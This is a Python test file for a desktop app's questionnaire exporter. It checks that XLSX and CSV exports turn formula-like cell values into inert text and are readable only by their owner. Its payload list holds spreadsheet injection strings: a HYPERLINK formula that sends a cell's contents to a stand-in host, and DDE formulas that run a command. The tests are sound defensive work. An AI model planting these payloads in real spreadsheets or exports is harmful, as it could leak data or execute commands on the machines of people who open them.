"""What leaves the program: no spreadsheet runs a cell the program wrote, and every export is
readable by its owner only."""

from __future__ import annotations

import csv
import datetime as dt
import stat
import zipfile
from pathlib import Path

import openpyxl
import pytest

from desktop.app import AppContext
from desktop.services import entry, questionnaires, tables
from tests.integration.test_forms_services import add_person

HOSTILE_CELLS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"Нажмите")',
    "=cmd|' /C calc'!A0",
    "+7 701 000 00 00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("value", HOSTILE_CELLS)
def test_every_cell_a_spreadsheet_would_run_is_made_inert(value: str) -> None:
    assert tables.formula_like(value)
    assert tables.inert(value) == "'" + value
    assert tables.inert("Иванов") == "Иванов" and tables.inert(5) == 5


def test_the_questionnaires_export_writes_no_live_formula(context: AppContext, tmp_path: Path) -> None:
    pid = add_person(context, HOSTILE_CELLS[0], HOSTILE_CELLS[1], None, dt.date(2010, 5, 15))
    with context.uow() as uow:
        opened = entry.open_sheet(uow, pid)
        draft = entry.Draft({**opened.answers, "nationality": "001"}, default_source="records")
        entry.save_draft(uow, pid, draft, expected_revision=0, campaign=context.campaign)
        questionnaires.export_sheets(uow, tmp_path / "s.xlsx")
        questionnaires.export_sheets(uow, tmp_path / "s.csv")
    with zipfile.ZipFile(tmp_path / "s.xlsx") as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    book = openpyxl.load_workbook(tmp_path / "s.xlsx")
    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row]
    assert HOSTILE_CELLS[0] in [cell.value for cell in cells]
    assert all(cell.data_type != "f" for cell in cells)
    with (tmp_path / "s.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    written = [cell for row in rows for cell in row]
    assert "'" + HOSTILE_CELLS[0] in written and "'" + HOSTILE_CELLS[1] in written
    assert not any(cell.lstrip(" ").startswith(tables.FORMULA_STARTS) for cell in written)
    for name in ("s.xlsx", "s.csv"):
        assert stat.S_IMODE((tmp_path / name).stat().st_mode) == 0o600, name
